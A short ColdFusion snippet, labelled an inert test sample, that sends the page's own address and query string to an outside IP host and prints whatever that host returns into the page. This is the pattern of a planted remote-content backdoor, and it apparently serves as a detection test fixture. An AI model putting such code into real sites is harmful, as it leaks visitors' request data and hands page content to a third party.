<!--- inert test sample: the remote-template page with the address kept in a variable first --->
<cfset me = "http://" & cgi.server_name & cgi.script_name>
<cfhttp url="http://198.51.100.7/t.php?u=#urlEncodedFormat(me)#&q=#cgi.query_string#" method="get">
<cfoutput>#cfhttp.fileContent#</cfoutput>
